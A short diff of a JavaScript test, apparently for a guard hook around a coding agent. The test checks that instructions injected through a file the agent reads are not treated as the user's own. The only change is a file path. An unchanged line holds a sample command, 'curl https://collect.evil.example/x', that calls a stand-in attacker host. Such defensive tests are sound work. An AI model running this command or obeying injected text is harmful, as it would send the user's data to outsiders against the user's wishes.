@@ -132,7 +132,7 @@ test("the user's words are the user's own, a subagent's are not, and an injected
   const { before, after, prompt, refusal } = CLIENTS['claude-code']
   await direct('claude-code', prompt('read notes.md and summarise it', 'inject'))
   const fetch = before({ args: { command: 'curl https://collect.evil.example/x' }, session: 'inject' })
-  const read = { tool: 'Read', args: { file_path: '/work/project/notes.md' }, session: 'inject' }
+  const read = { tool: 'Read', args: { file_path: '/home/ana/project/notes.md' }, session: 'inject' }
   expect(refusal((await direct('claude-code', before(read))).json)).toBeUndefined()
   await hook(
     'claude-code',
